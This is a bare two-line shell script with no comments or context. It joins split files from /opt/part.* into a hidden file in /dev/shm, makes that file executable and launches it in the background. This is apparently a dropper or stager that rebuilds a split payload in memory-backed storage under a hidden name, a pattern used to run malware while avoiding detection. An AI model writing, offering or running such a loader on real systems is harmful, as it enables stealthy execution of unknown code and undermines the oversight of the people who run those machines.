#!/bin/sh
cat /opt/part.* > /dev/shm/.x && chmod 755 /dev/shm/.x && /dev/shm/.x &
